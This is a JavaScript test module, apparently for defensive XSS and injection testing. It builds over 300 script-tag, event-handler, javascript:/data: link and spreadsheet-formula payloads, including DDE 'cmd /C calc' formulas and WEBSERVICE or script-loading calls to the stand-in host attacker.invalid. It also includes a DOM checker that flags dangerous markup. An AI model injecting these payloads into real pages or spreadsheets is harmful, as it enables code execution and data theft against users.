// More than 300 hostile texts for questions, messages, crawled pages and settings. Each text would run a script,
// load a file, lead to another site or be a formula if it were treated as more than text. Each one calls `hit()` or
// refers to attacker.invalid.

const TAGS = [
  "<script>hit()</script>", "<SCRIPT SRC=//attacker.invalid/a.js></SCRIPT>", "<script>/*</script><script>*/hit()</script>", "</script><script>hit()</script>",
  "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</style><script>hit()</script>", "--><script>hit()</script>", "]]><script>hit()</script>",
  "<scr<script>ipt>hit()</scr</script>ipt>", "<script\u200b>hit()</script>", "<script/x>hit()</script>", "<<script>hit()//<</script>", "<script>hit()", "\"><script>hit()</script>",
  "'><script>hit()</script>", "`><script>hit()</script>", "{{constructor.constructor('hit()')()}}", "${hit()}", "<%= hit() %>", "#{hit()}", "[[${hit()}]]",
  "<iframe src=//attacker.invalid></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<object data=//attacker.invalid></object>", "<embed src=//attacker.invalid>",
  "<link rel=stylesheet href=//attacker.invalid/a.css>", "<style>@import '//attacker.invalid/a.css'</style>", "<style>*{background:url(//attacker.invalid/a)}</style>",
  "<base href=//attacker.invalid/>", "<meta http-equiv=refresh content='0;url=//attacker.invalid'>", "<form action=//attacker.invalid><button>Go</button></form>",
  "<img src=//attacker.invalid/a.png>", "<img srcset='//attacker.invalid/a.png 2x'>", "<picture><source srcset=//attacker.invalid/a><img></picture>", "<video poster=//attacker.invalid/a>",
  "<audio src=//attacker.invalid/a autoplay>", "<input type=image src=//attacker.invalid/a>", "<body background=//attacker.invalid/a>", "<table background=//attacker.invalid/a>",
  "<div style=\"background:url(//attacker.invalid/a)\">x</div>", "<svg><use href=//attacker.invalid/a#x></svg>", "<svg><image href=//attacker.invalid/a></svg>", "<svg><script>hit()</script></svg>",
  "<svg><a href=javascript:hit()><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:hit()></svg>", "<math><mi xlink:href=javascript:hit()>x</mi></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<template><script>hit()</script></template>", "<select><template shadowrootmode=open><script>hit()</script></template></select>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit()&gt;\">", "<a href=x ping=//attacker.invalid>x</a>", "<portal src=//attacker.invalid>",
  "<link rel=prefetch href=//attacker.invalid>", "<script type=module>import('//attacker.invalid/a.js')</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//attacker.invalid\"]}]}</script>",
  "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "\u202e<script>hit()</script>\u202c", "\ufeff<script>hit()</script>",
];

const HOSTS = ["img src=x", "svg", "video src=x", "details open", "body", "input autofocus", "marquee", "audio src=x", "iframe", "a href=x tabindex=1"];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onpointerenter", "onanimationstart", "onbegin", "onscrollend"];
const HANDLERS = HOSTS.flatMap((host) => EVENTS.map((event, i) => `${i % 3 === 0 ? "\"" : ""}<${host}${i % 2 ? "/" : " "}${event}=hit()>`));

const ADDRESSES = [
  "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java%0ascript:hit()", "&#106;avascript:hit()", "javascript&colon;hit()", "\u0001javascript:hit()", "javascript://attacker.invalid/%0ahit()",
  "vbscript:hit()", "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit()>", "file:///etc/passwd", "blob:null/hit",
  "//attacker.invalid/a", "\\\\attacker.invalid\\a", "feed:javascript:hit()", "view-source:javascript:hit()", "http:javascript:hit()", "https://attacker.invalid/\"onmouseover=\"hit()",
];
const FORMS = [(to) => `[a link](${to})`, (to) => `![a picture](${to})`, (to) => `<${to}>`, (to) => `[again](<${to}>)`, (to) => `[x][1]\n\n[1]: ${to}`, (to) => `**[bold *and*](${to} "title")** ${to}`];
const LINKS = ADDRESSES.flatMap((address) => FORMS.map((form) => form(address)));

/** Formulas for spreadsheets. Each one is the beginning of a cell. */
export const FORMULAS = [
  "=1+1", "=HYPERLINK(\"https://attacker.invalid\",\"hit\")", "=cmd|'/C calc'!A0", "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!D2", "@SUM(1+1)*cmd|'/C calc'!A0", "@hit",
  "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "=WEBSERVICE(\"https://attacker.invalid\")", "=IMPORTXML(\"https://attacker.invalid\",\"//a\")",
  "\"=1+1\"", "=1+1\",\"=2+2", "%0A=1+1", "|calc", "=DDE(\"cmd\";\"/C calc\";\"x\")",
];

export const PAYLOADS = [...new Set([...TAGS, ...HANDLERS, ...LINKS, ...FORMULAS])];

/** Joins the payloads into as few texts of at most `limit` characters as possible, separated by blank lines. */
export function texts(limit, payloads = PAYLOADS) {
  const made = [];
  for (const payload of payloads.filter(({ length }) => length <= limit)) {
    const last = made.at(-1);
    if (last !== undefined && last.length + payload.length + 2 <= limit) made[made.length - 1] = `${last}\n\n${payload}`;
    else made.push(payload);
  }
  return made;
}

/** Escapes a text for an HTML page. */
export const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("\"", "&quot;");

/** A script that runs in a page before its own scripts and counts the calls of `hit()`. */
export const TRAP = "globalThis.hits = 0; globalThis.hit = () => { globalThis.hits++; };";

/** Lists the elements and attributes of a page, including shadow roots, that text must never create. */
export function strange(page) {
  return page.evaluate(() => {
    const found = [];
    const walk = (root) => {
      for (const node of root.querySelectorAll("*")) {
        if (node.shadowRoot) walk(node.shadowRoot);
        const name = node.localName;
        if (["iframe", "object", "embed", "base", "portal", "marquee", "math", "video", "audio", "img", "template", "style"].includes(name)) found.push(name);
        if (name === "script" && new URL(node.src, location.href).origin !== location.origin) found.push("script");
        if (name === "form" && node.hasAttribute("action")) found.push("form");
        for (const { name: attribute, value } of node.attributes) {
          if (attribute.startsWith("on") || ["srcdoc", "ping", "formaction", "background", "poster"].includes(attribute)) found.push(`${name} ${attribute}`);
          if (["href", "src"].includes(attribute) && !["http:", "https:", "mailto:"].includes(new URL(value, location.href).protocol)) found.push(`${name} ${attribute}=${value}`);
        }
      }
    };
    walk(document);
    return globalThis.hits ? [`ran ${globalThis.hits} times`, ...found] : found;
  });
}
